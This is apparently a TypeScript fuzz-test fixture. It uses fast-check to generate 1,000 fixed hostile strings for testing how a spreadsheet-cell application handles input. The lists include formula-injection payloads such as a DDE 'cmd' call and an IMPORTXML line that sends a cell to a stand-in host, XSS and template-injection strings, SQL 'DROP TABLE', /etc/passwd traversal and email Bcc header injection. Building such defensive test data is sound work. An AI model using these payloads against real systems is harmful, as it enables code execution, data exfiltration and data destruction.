import fc from 'fast-check';

/** The longest text that a cell takes. */
export const CELL_LIMIT = 50_000;

const FORMULAS = [
  '=1+1',
  '=',
  '==',
  "='",
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '=HYPERLINK("https://ke.example";"Bấm đây")',
  '=IMPORTXML("https://ke.example/?"&A1;"//a")',
  '=IMAGE("https://ke.example/a.png")',
  "=cmd|' /C calc'!A0",
  '=SUM(A1:A9)',
  '=INDIRECT("\'Danh mục\'!F21")',
  '={1;2}',
  '=A1',
  '=#REF!',
  '+1+1',
  '+84 204 3854 254',
  '+',
  '+A1',
  '-5',
  '-',
  '--',
  "-2+3+cmd|' /C calc'!A0",
  '- gạch đầu dòng',
  '@SUM(1+1)',
  '@',
  '@vanphong',
  '＝1+1',
  '﹢1',
  "'",
  "''",
  "'=1+1",
  "'trích dẫn'",
  "'00123",
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '%0A=1+1',
];

const LIKE_VALUES = [
  '1/2',
  '31/8',
  '31/8/2024',
  '2024-08-31',
  '8/2024',
  '00123',
  '0',
  '-0',
  '1e5',
  '1E400',
  '1.000',
  '1,5',
  '1.5',
  '50%',
  '12:30',
  '31/8/2024 12:30',
  'TRUE',
  'true',
  'FALSE',
  'Infinity',
  'NaN',
  '0x10',
  'null',
  'undefined',
  '#REF!',
  '#N/A',
  '1 000',
  '$5',
  '5 ₫',
  '(5)',
  '9007199254740993',
  'd:2024-08-31',
  '(văn bản dài 12 ký tự)',
  '{"day":"2024-08-31"}',
  '{"long":5,"sum":"x"}',
];

const MARKUP = [
  '<b>đậm</b>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</SCRIPT >',
  '<!--',
  '-->',
  '<![CDATA[x]]>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '"><img src=x>',
  "' onmouseover='alert(1)",
  '" style="position:fixed;inset:0',
  '</td></tr></table><h1>Giả</h1>',
  '</p></div></body></html>',
  '</title><meta http-equiv=refresh content="0;url=https://ke.example">',
  '</textarea><x>',
  '<style>*{display:none}</style>',
  '<iframe srcdoc="&lt;script&gt;">',
  '<plaintext>',
  '<?= 1 ?>',
  '<?!= include("x") ?>',
  '<? throw 1 ?>',
  '&lt;b&gt;',
  '&amp;amp;',
  '&#60;b&#62;',
  '&',
  '<',
  '>',
  '<<<>>>',
  '`',
  '\\',
  '\\u003cscript\\u003e',
  `\${1+1}`,
  `\`\${alert(1)}\``,
  '{{constructor.constructor("alert(1)")()}}',
  '"}],"ok":true,"x":[{"',
  '{"ok":false,"message":"giả"}',
  '["__proto__"]',
  '$&',
  "$'",
  '$1',
  '%s %d %n',
  '../../etc/passwd',
  "'; DROP TABLE viec;--",
  '_x000D_',
  '_x003D_1+1',
  '# Tiêu đề',
  '**đậm**',
  '[x](javascript:alert(1))',
  '![](https://ke.example/a.png)',
  '| a | b |',
  '```',
  'https://ke.example/?a=1&b=2#c',
  'mailto:ai@so.example?bcc=ke@ngoai.example',
  'ai@so.example\r\nBcc: ke@ngoai.example',
  'dòng một\nSubject: giả',
  '*',
  '?',
  '~*',
  '<>',
  '>0',
  '"a";"b"',
  'a,b;c\td',
];

const LETTERS = [
  ' ',
  '   ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  'một\r\nhai\rba\nbốn',
  ' đầu và cuối ',
  '\u00A0',
  '\u3000',
  '\u2028',
  '\u2029',
  '\uFEFFcó dấu thứ tự byte',
  '\u200B',
  'khô\u200Bng\u200Cnhìn\u200Dthấy\u2060',
  '\u202Egnơưv óc\u202C',
  '\u2066cô lập\u2069',
  '\u200Fשלום',
  'مرحبا بالعالم',
  'Hoàn thành'.normalize('NFD'),
  'Đang thực hiện'.normalize('NFD'),
  'Vướng mắc ở Sở Khoa học'.normalize('NFD'),
  'Vướng mắc ở Sở Khoa học',
  'ĐẶNG THỊ Ỷ',
  '😀',
  '👩‍👩‍👧‍👦',
  '🇻🇳',
  '𠀀𠀁',
  'z̷̢̛a̸͓͝l̶̡͠g̴̨̈́o̵͔̍',
  'ﬁ ﬀ ẞ İ ı ſ',
  '\uFFFD',
  '\uE000',
  '\u{10FFFD}',
  'a'.repeat(400),
  'đ'.repeat(1_000),
  'ớ'.repeat(1_001),
  'dài '.repeat(12_500),
  '='.repeat(CELL_LIMIT),
  '<b>'.repeat(16_666),
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'length',
  'toJSON',
  'code',
  'fields',
  'status',
  'I.2.6',
  'Phòng QLKH',
  'Cả việc',
  'sổ tự điền',
  'không rõ',
  'Việc',
  'Mã',
  'Trạng thái',
  'dauVet:000000000000000:000:abc',
  'doiChieu:dang',
];

/** Texts that no cell takes: letters that no keyboard types, halves of a letter, more than a cell holds. */
const UNWRITABLE = [
  '\u0000',
  'a\u0000b',
  '\u0001',
  '\u0008xoá',
  '\u000B',
  '\u000C',
  '\u001B[31mđỏ',
  '\u007F',
  '\u0085',
  '\u009F',
  '\uD800',
  '\uDFFF',
  'nửa \uD83D chữ',
  '\uDE00\uD83D',
  'x'.repeat(CELL_LIMIT + 1),
  'ớ'.repeat(60_000),
  '='.repeat(60_000),
];

const PIECES = [
  ...FORMULAS,
  ...LIKE_VALUES,
  ...MARKUP,
  ...LETTERS.filter((text) => text.length < 100),
  ...NAMES,
];
const HOW_MANY = 1_000;
const SEED = 20_240_920;

/** Letters that often mean something to a program, more often than chance would have them. */
const letter = fc.oneof(
  fc.constantFrom(...'=+-@\'"<>&;,:/\\`$', ...'{}[]()|*?#%\t\n\r '),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);
const mixed = fc
  .array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: letter, maxLength: 12 })), {
    minLength: 1,
    maxLength: 4,
  })
  .map((parts) => parts.join(''));

/** 1,000 different texts, always the same ones: those that people and attackers are known to write, and mixtures. */
export const HOSTILE_TEXTS: readonly string[] = (() => {
  const texts = new Set([...FORMULAS, ...LIKE_VALUES, ...MARKUP, ...LETTERS, ...NAMES, ...UNWRITABLE]);
  for (const text of fc.sample(mixed, { seed: SEED, numRuns: 3 * HOW_MANY })) {
    if (texts.size < HOW_MANY && text !== '') texts.add(text);
  }
  return [...texts];
})();

/** Whether a text is one that a cell can hold. */
export function isWritable(text: string): boolean {
  const letters = [...text];
  return (
    text.length <= CELL_LIMIT &&
    letters.every((one) => {
      const code = one.codePointAt(0) ?? 0;
      const control = code < 0x20 ? !['\t', '\n', '\r'].includes(one) : code >= 0x7f && code < 0xa0;
      return !control && !(code >= 0xd800 && code <= 0xdfff);
    })
  );
}

/** The texts that a cell can hold. */
export const WRITABLE_TEXTS = HOSTILE_TEXTS.filter(isWritable);
